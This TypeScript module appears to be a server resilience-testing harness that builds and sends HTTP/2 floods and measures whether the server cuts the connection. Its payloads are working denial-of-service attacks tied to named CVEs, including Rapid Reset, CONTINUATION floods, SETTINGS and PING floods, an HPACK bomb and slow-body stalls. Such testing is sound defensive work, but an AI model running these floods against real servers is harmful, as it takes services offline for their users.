import {
  END_HEADERS,
  END_STREAM,
  FRAME,
  type FrameClient,
  field,
  frame,
  requestFields,
  uint32,
} from './http2-frames.js';

/** What somebody sends over and over on one connection of HTTP/2. */
export interface Flood {
  readonly name: string;
  /** Window that is granted for answers; the usual one when missing. */
  readonly window?: number;
  readonly isReading?: boolean;
  /** Sent first. */
  begin?(cookie: string): Buffer;
  /** @param turn counts from 0 @returns the next piece, some hundred frames long */
  next(turn: number, cookie: string): Buffer;
}

const NO_BYTES = Buffer.alloc(0);
const CANCEL = uint32(8);

function many(count: number, make: (index: number) => Buffer): Buffer {
  return Buffer.concat(Array.from({ length: count }, (_, index) => make(index)));
}

/** Number of a client's request. */
function streamOf(index: number): number {
  return 2 * index + 1;
}

function requests(turn: number, count: number, make: (stream: number) => Buffer): Buffer {
  return many(count, (index) => make(streamOf(turn * count + index)));
}

const POST = { ':method': 'POST', origin: 'https://hub.example.org' };
const upload = (cookie: string, path = '/user/anna/hold', stream = 1): Buffer =>
  frame(FRAME.HEADERS, END_HEADERS, stream, requestFields(path, cookie, POST));
const UPLOADS = 16;

export const FLOODS: readonly Flood[] = [
  {
    name: 'requests that are cancelled at once (CVE-2023-44487)',
    next: (turn, cookie) =>
      requests(turn, 50, (stream) =>
        Buffer.concat([
          frame(FRAME.HEADERS, END_HEADERS | END_STREAM, stream, requestFields('/user/anna/hold', cookie)),
          frame(FRAME.RST_STREAM, 0, stream, CANCEL),
        ]),
      ),
  },
  {
    name: 'requests that are broken so that the server cancels them (CVE-2025-8671)',
    next: (turn, cookie) =>
      requests(turn, 50, (stream) =>
        Buffer.concat([
          frame(FRAME.HEADERS, END_HEADERS | END_STREAM, stream, requestFields('/user/anna/hold', cookie)),
          frame(FRAME.WINDOW_UPDATE, 0, stream, uint32(0)),
        ]),
      ),
  },
  {
    name: 'malformed requests',
    next: (turn) =>
      requests(turn, 50, (stream) =>
        frame(FRAME.HEADERS, END_HEADERS | END_STREAM, stream, requestFields('/', '', { host: 'other.example' })),
      ),
  },
  { name: 'SETTINGS (CVE-2019-9515)', next: () => many(500, () => frame(FRAME.SETTINGS, 0, 0)) },
  { name: 'PING (CVE-2019-9512)', next: () => many(500, () => frame(FRAME.PING, 0, 0, Buffer.alloc(8))) },
  {
    name: 'PING, and the answers are not read',
    isReading: false,
    next: () => many(500, () => frame(FRAME.PING, 0, 0, Buffer.alloc(8))),
  },
  {
    name: 'PRIORITY (CVE-2019-9513)',
    next: (turn) => requests(turn, 500, (stream) => frame(FRAME.PRIORITY, 0, stream, Buffer.from([0, 0, 0, 0, 16]))),
  },
  { name: 'unknown frames', next: () => many(500, () => frame(0xfa, 0, 0)) },
  {
    name: 'windows that grow byte by byte',
    begin: (cookie) => upload(cookie),
    next: () => many(500, () => frame(FRAME.WINDOW_UPDATE, 0, 1, uint32(1))),
  },
  {
    name: 'header fields without end (CVE-2024-27316)',
    begin: (cookie) => frame(FRAME.HEADERS, 0, 1, requestFields('/user/anna/hold', cookie)),
    next: (turn) => many(20, (index) => frame(FRAME.CONTINUATION, 0, 1, field(`x-${turn}-${index}`, 'y'.repeat(1000)))),
  },
  {
    name: 'header fields without end, in frames of none (CVE-2024-27316)',
    begin: (cookie) => frame(FRAME.HEADERS, 0, 1, requestFields('/user/anna/hold', cookie)),
    next: () => many(500, () => frame(FRAME.CONTINUATION, 0, 1)),
  },
  {
    name: 'a compressed head of 60 MB (HPACK bomb)',
    begin: (cookie) =>
      frame(
        FRAME.HEADERS,
        END_HEADERS | END_STREAM,
        1,
        Buffer.concat([requestFields('/user/anna/hold', cookie), field('x', 'y'.repeat(4000), true)]),
      ),
    // 0xbe: the newest field of the table.
    next: (turn) =>
      frame(
        FRAME.HEADERS,
        END_HEADERS | END_STREAM,
        streamOf(turn + 1),
        Buffer.concat([requestFields('/user/anna/hold', ''), Buffer.alloc(15_000, 0xbe)]),
      ),
  },
  {
    name: 'requests that never end',
    next: (turn, cookie) =>
      requests(turn, 50, (stream) =>
        frame(FRAME.HEADERS, END_HEADERS, stream, requestFields('/user/anna/hold', cookie, POST)),
      ),
  },
  {
    name: 'answers that are not taken',
    window: 0,
    next: (turn, cookie) =>
      turn > 1
        ? NO_BYTES
        : requests(turn, 60, (stream) =>
            frame(FRAME.HEADERS, END_HEADERS | END_STREAM, stream, requestFields('/user/anna/big', cookie)),
          ),
  },
  {
    name: 'answers in chunks of one byte that are not taken',
    window: 0,
    next: (turn, cookie) =>
      turn > 1
        ? NO_BYTES
        : requests(turn, 60, (stream) =>
            frame(FRAME.HEADERS, END_HEADERS | END_STREAM, stream, requestFields('/user/anna/crumbs', cookie)),
          ),
  },
  {
    name: 'a body byte by byte',
    begin: (cookie) => upload(cookie),
    next: () => many(200, () => frame(FRAME.DATA, 0, 1, Buffer.from('x'))),
  },
  {
    name: 'bodies byte by byte, for servers that do not read',
    begin: (cookie) => many(UPLOADS, (index) => upload(cookie, '/user/anna/stuck', streamOf(index))),
    next: (turn) => many(500, () => frame(FRAME.DATA, 0, streamOf(turn % UPLOADS), Buffer.from('x'))),
  },
  {
    name: 'a body of nothing (CVE-2019-9518)',
    begin: (cookie) => upload(cookie),
    next: () => many(500, () => frame(FRAME.DATA, 0, 1)),
  },
];

export interface FloodResult {
  readonly sentBytes: number;
  readonly tookMs: number;
  /** The other side has closed. */
  readonly isCutOff: boolean;
}

/** Sends it for a while. */
export async function flood(
  client: FrameClient,
  { begin, next }: Flood,
  cookie: string,
  forMs: number,
): Promise<FloodResult> {
  const beganMs = performance.now();
  const untilMs = beganMs + forMs;
  let sentBytes = 0;
  if (begin !== undefined) await client.send(begin(cookie));
  for (let turn = 0; performance.now() < untilMs && !client.isClosed; turn++) {
    const bytes = next(turn, cookie);
    sentBytes += bytes.length;
    if (bytes.length > 0) await Promise.race([client.send(bytes), after(untilMs - performance.now())]);
    else await after(20);
  }
  return { sentBytes, tookMs: performance.now() - beganMs, isCutOff: client.isClosed };
}

function after(milliseconds: number): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, Math.max(0, milliseconds)));
}
